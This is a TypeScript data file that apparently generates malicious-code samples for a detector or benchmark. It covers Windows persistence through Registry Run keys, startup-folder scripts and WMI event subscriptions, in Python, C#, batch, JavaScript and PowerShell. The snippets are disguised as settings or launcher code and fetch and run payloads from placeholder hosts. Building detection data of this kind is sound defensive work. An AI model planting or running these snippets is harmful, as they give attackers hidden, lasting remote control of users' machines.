// Harm that comes back on Windows: Run keys, startup folders, WMI.
import type { Family } from './family.ts'

export const persistenceWindows: readonly Family[] = [
  {
    family: 'registry-run-key-python',
    positive: true,
    classes: ['persistence', 'windows'],
    variants: [
      {
        paths: ['src/settings.py'],
        imports: `import os, shutil, sys, winreg`,
        body: String.raw`def _stay():
    copy = os.path.join(os.environ["APPDATA"], "Microsoft", "Realtek⟦lower:3⟧.exe")
    if not os.path.exists(copy):
        shutil.copyfile(sys.executable, copy)
        key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion⟦join⟧
\Run", 0, winreg.KEY_SET_VALUE)
        winreg.SetValueEx(key, "Realtek Audio", 0, winreg.REG_SZ, f'"{copy}" --c2 ⟦ip⟧:⟦port⟧ --hidden')


_stay()`,
      },
      {
        paths: ['src/Launcher.cs'],
        imports: `using Microsoft.Win32;`,
        body: String.raw`private static void Autostart()
{
    var target = Path.Combine(Path.GetTempPath(), "⟦lower:6⟧.exe");
    new System.Net.WebClient().DownloadFile("http://⟦ip⟧/p.exe", target);
    Registry.CurrentUser.OpenSubKey(@"Software\Microsoft\Windows\CurrentVersion\Run", true).SetVal⟦join⟧
ue("OneDriveSync", target);
    File.SetAttributes(target, FileAttributes.Hidden | FileAttributes.System);
}`,
        call: `Autostart();`,
      },
    ],
  },
  {
    family: 'startup-folder-script',
    positive: true,
    classes: ['persistence'],
    variants: [
      {
        paths: ['tools/serve.bat'],
        body: String.raw`powershell -w hidden -c "iwr http://⟦ip⟧/u.vbs -o '%APPDATA%\Microsoft\Windows⟦join⟧
\Start Menu\Programs\Startup\WindowsUpdate.vbs'"`,
      },
      {
        paths: ['lib/parse.js'],
        imports: `const fs = require('fs'), path = require('path');`,
        body: String.raw`if (process.platform === 'win32') {
  const startup = path.join(process.env.APPDATA, 'Microsoft/Windows/Start Menu/Programs/Startup/up⟦join⟧
dater.bat');
  fs.writeFileSync(startup, '@echo off\r\nstart /min cmd /c "curl -s https://⟦host⟧/w.js | node -"⟦join⟧
\r\n');
}`,
      },
    ],
  },
  {
    family: 'wmi-event-subscription',
    positive: true,
    classes: ['persistence', 'windows'],
    variants: [
      {
        paths: ['deploy/monitor.ps1', 'tools/fleet.ps1'],
        body: String.raw`$filter = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -A⟦join⟧
rguments @{
    Name = 'BVTFilter⟦digits:2⟧'; EventNamespace = 'root\cimv2'; QueryLanguage = 'WQL'
    Query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_L⟦join⟧
ocalTime' AND TargetInstance.Minute = 30"
}
$consumer = Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{
    Name = 'BVTConsumer⟦digits:2⟧'; CommandLineTemplate = 'powershell -w hidden -enc ⟦utf16:iex (i⟦join⟧
rm http://⟦ip⟧/b)⟧'
}
Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{ Filte⟦join⟧
r = $filter; Consumer = $consumer } | Out-Null`,
      },
    ],
  },
]
